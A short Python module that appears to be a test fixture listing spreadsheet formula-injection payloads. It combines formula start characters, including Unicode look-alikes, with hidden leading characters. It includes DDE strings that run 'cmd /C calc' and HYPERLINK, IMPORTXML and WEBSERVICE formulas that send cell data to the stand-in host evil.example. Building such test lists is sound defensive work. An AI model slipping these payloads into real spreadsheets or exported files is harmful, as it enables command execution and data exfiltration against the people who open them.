"""Hostile cells: every beginning of a formula behind everything that spreadsheets skip."""

STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"]
BEFORE = [
    "",
    " ",
    "\ufeff",
    '"',
    "'",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\u200b",
    "\xa0",
    "\u202e",
    "“",
    ";",
    ",",
    "|",
    ' "',
    "\ufeff'",
    "word;",
    "word, ",
    "word\n",
    "word\t",
    "a|“",
]
COMMANDS = {
    "=": '=HYPERLINK("http://evil.example?x="&A1,"open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
OTHERS = ["\tword", "\rword", "\nword", "\x00=1+1", "=\x001+1", "\ud800=1+1", "=1+1\x7f",
          "=DDE(\"cmd\";\"/C calc\";\"1\")", "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")",
          "=WEBSERVICE(\"http://evil.example\")", "=cmd|'/C calc'!A0", "%0A=1+1\n=1+1"]  # fmt: skip
PAYLOADS = [
    *(before + COMMANDS.get(start, f"{start}SUM(1,1)") for before in BEFORE for start in STARTS),
    *OTHERS,
]
